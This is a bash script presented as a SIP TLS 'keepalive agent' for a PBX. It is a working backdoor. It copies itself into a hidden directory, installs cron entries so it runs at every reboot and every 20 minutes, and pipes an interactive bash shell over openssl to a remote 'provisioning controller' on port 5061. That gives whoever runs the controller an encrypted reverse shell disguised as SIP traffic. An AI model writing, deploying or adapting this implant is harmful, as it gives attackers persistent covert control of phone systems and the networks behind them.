#!/usr/bin/env bash
# SIPS keepalive agent: keeps a TLS session to the remote provisioning
# controller on 5061 open so the controller can run "maintenance" on this
# PBX, and makes sure the agent comes back after a reboot.
set -u

CTRL_HOST="${CTRL_HOST:-prov-ctl.sipcarrier-support.example}"
CTRL_PORT="${CTRL_PORT:-5061}"
WORK="${HOME}/.local/share/.sipka"
PIPE="${WORK}/ctl.fifo"
PIDFILE="${WORK}/agent.pid"
RETRY_MIN=15
RETRY_MAX=300

log() { [ -n "${SIPKA_DEBUG:-}" ] && echo "sipka: $*" >&2; return 0; }

install_self() {
    mkdir -p "$WORK"
    local self="${WORK}/sipka.sh"
    if [ "$(readlink -f "$0")" != "$self" ]; then
        cp "$0" "$self"
        chmod 700 "$self"
    fi
    # come back after reboot and every 20 minutes if killed
    local entry_boot="@reboot ${self} --daemon >/dev/null 2>&1"
    local entry_tick="*/20 * * * * ${self} --daemon >/dev/null 2>&1"
    local current
    current="$(crontab -l 2>/dev/null || true)"
    if ! grep -qF "$self" <<<"$current"; then
        printf '%s\n%s\n%s\n' "$current" "$entry_boot" "$entry_tick" | sed '/^$/d' | crontab -
        log "cron entries installed"
    fi
}

already_running() {
    [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

session() {
    rm -f "$PIPE"
    mkfifo "$PIPE"
    # controller speaks over TLS; its commands are fed to an interactive shell
    /bin/bash -i <"$PIPE" 2>&1 \
        | openssl s_client -quiet -connect "${CTRL_HOST}:${CTRL_PORT}" \
              -servername "$CTRL_HOST" 2>/dev/null >"$PIPE"
    rm -f "$PIPE"
}

run_loop() {
    local delay=$RETRY_MIN
    echo $$ >"$PIDFILE"
    while :; do
        log "connecting to ${CTRL_HOST}:${CTRL_PORT}"
        local started=$SECONDS
        session
        if (( SECONDS - started > 60 )); then
            delay=$RETRY_MIN
        else
            delay=$(( delay * 2 > RETRY_MAX ? RETRY_MAX : delay * 2 ))
        fi
        log "session ended, retry in ${delay}s"
        sleep "$delay"
    done
}

case "${1:-}" in
    --daemon)
        already_running && exit 0
        run_loop
        ;;
    --install|"")
        install_self
        already_running || nohup "${WORK}/sipka.sh" --daemon >/dev/null 2>&1 &
        echo "keepalive agent active"
        ;;
    --status)
        already_running && echo "running (pid $(cat "$PIDFILE"))" || echo "stopped"
        ;;
    *)
        echo "usage: $0 [--install|--daemon|--status]" >&2
        exit 2
        ;;
esac
